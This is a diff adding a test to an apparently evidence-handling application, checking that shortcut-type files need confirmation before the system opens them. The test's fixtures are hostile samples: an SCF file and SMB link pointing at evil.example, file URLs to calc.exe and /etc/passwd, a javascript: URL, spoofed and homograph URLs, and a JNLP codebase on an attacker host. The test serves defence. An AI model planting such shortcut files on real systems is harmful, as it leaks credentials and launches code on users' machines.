@@ -69,4 +69,48 @@ describe('opening evidence with the system application', () => {
     expect(opened).toHaveLength(1);
     core.close();
   });
+
+  it('asks before opening a shortcut that would send the system to a URL (file:, smb:, javascript:)', async () => {
+    const { core } = await setup('policy.txt');
+    const opened: string[] = [];
+    core.ctx.platform.openPath = async (file) => {
+      opened.push(file);
+      return '';
+    };
+    const engagementId = (
+      core.store.sqlite.prepare('SELECT id FROM engagements').get() as { id: string }
+    ).id;
+    const shortcuts: [string, string][] = [
+      ['Board pack.url', '[InternetShortcut]\nURL=file:///C:/Windows/System32/calc.exe\n'],
+      ['Share.URL', '[InternetShortcut]\nURL=smb://fileserver.evil.example/share\n'],
+      [
+        'Policy.webloc',
+        '<plist><dict><key>URL</key><string>javascript:alert(1)</string></dict></plist>',
+      ],
+      ['Policy.inetloc', 'https://www.iso.org@evil.example/'],
+      ['Site.website', '[InternetShortcut]\nURL=https://xn--pple-43d.com/\n'],
+      ['Explorer.scf', '[Shell]\nCommand=2\nIconFile=\\\\evil.example\\x.ico\n'],
+      ['Tool.desktop', '[Desktop Entry]\nType=Link\nURL=file:///etc/passwd\n'],
+      ['Start.appref-ms', 'https://evil.example/app.application'],
+      ['Settings.settingcontent-ms', '<PCSettings><DeepLink>cmd.exe</DeepLink></PCSettings>'],
+      ['Search.searchconnector-ms', '<searchConnectorDescription/>'],
+      ['Library.library-ms', '<libraryDescription/>'],
+      ['Report.hta', '<script>alert(1)</script>'],
+      ['Tweak.reg', 'Windows Registry Editor Version 5.00\n'],
+      ['Launch.jnlp', '<jnlp codebase="http://evil.example"/>'],
+      ['Archive.mht', 'MIME-Version: 1.0\n'],
+    ];
+    for (const [name, content] of shortcuts) {
+      const source = path.join(tempDir(), name);
+      fs.writeFileSync(source, content);
+      const item = await importFile(core.ctx, source, { engagementId });
+      const result = await core.dispatcher.dispatch('evidence.openExternal', { id: item.id });
+      expect(
+        result.ok && (result.value as { needsConfirmation: boolean }).needsConfirmation,
+        name,
+      ).toBe(true);
+    }
+    expect(opened).toEqual([]);
+    core.close();
+  });
 });
